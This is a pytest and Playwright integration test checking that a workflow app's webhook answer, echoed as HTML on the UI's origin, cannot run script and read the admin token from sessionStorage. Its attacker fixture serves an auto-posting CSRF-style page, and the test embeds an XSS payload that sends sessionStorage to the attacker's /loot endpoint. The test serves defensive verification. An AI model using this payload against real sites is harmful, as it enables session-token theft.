"""A webhook answer is served from the UI's origin, yet cannot run script there and read the admin token."""

from __future__ import annotations

import threading
import urllib.parse
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import httpx
import pytest
from playwright.sync_api import Page

from tests.integration._live_server import LiveServer
from tests.ui._steps import import_workflow, unique
from tests.ui.conftest import TOKEN

TITLE = "webhook answer"


@dataclass
class Attacker:
    """A page on another origin that auto-posts to a webhook URL, and the place its script sends loot."""

    url: str
    target: str = ""
    """The webhook URL (with its query) the attack page posts to."""
    loot: list[str] = field(default_factory=list)
    """The paths of the requests that reached `/loot`."""


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    """A plain HTTP server on 127.0.0.1 serving the attack page at `/` and recording `/loot` requests."""
    state = Attacker(url="")

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            """The attack page, or a request carrying loot (recorded)."""
            if self.path.startswith("/loot"):
                state.loot.append(self.path)
                self.send_response(204)
                self.end_headers()
                return
            page = (
                f'<form method="post" action="{state.target}"></form>'
                "<script>document.forms[0].submit()</script>"
            ).encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(page)))
            self.end_headers()
            self.wfile.write(page)

        def log_message(self, *args: object) -> None:
            """Quiet: the test reads `state.loot`."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    state.url = f"http://127.0.0.1:{server.server_address[1]}"
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield state
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def test_a_webhook_answer_cannot_run_script_in_the_ui_origin(
    signed_in: Page, api: httpx.Client, ui_server: LiveServer, attacker: Attacker
) -> None:
    """A `<script>` auto-posted to a Response node that echoes it as `text/html` does not run."""
    key = unique("echo")
    response_node = {
        "statusCode": 200,
        "headers": [{"name": "Content-Type", "value": "text/html"}],
        "body": f"<title>{TITLE}</title><p>thanks</p>{{{{$context.query.msg}}}}",
    }
    import_workflow(
        api,
        {
            "key": key,
            "title": "Echo as HTML",
            "type": "webhook",
            "sync": True,
            "enabled": True,
            "config": {},
            "nodes": [
                {
                    "key": "answer",
                    "type": "response",
                    "upstream": None,
                    "branchIndex": None,
                    "config": response_node,
                }
            ],
        },
    )
    steal = (
        "<script>const loot = JSON.stringify(Object.assign({}, sessionStorage));"
        "document.title = 'stolen ' + loot;"
        f"new Image().src = '{attacker.url}/loot?' + encodeURIComponent(loot);</script>"
    )
    attacker.target = f"{ui_server.url}/api/webhook:trigger/{key}?msg={urllib.parse.quote(steal)}"
    page = signed_in
    assert TOKEN in page.evaluate("() => JSON.stringify(Object.assign({}, sessionStorage))")

    page.goto(attacker.url)  # the attack page posts to the webhook at once, in this tab
    page.wait_for_url(f"{ui_server.url}/api/webhook:trigger/**")
    page.wait_for_load_state("load")  # a script in the answer would have run by now

    assert page.title() == TITLE
    assert attacker.loot == []
    # The token was there to take: this tab still holds it on the UI's origin.
    page.goto(ui_server.url)
    assert TOKEN in page.evaluate("() => JSON.stringify(Object.assign({}, sessionStorage))")
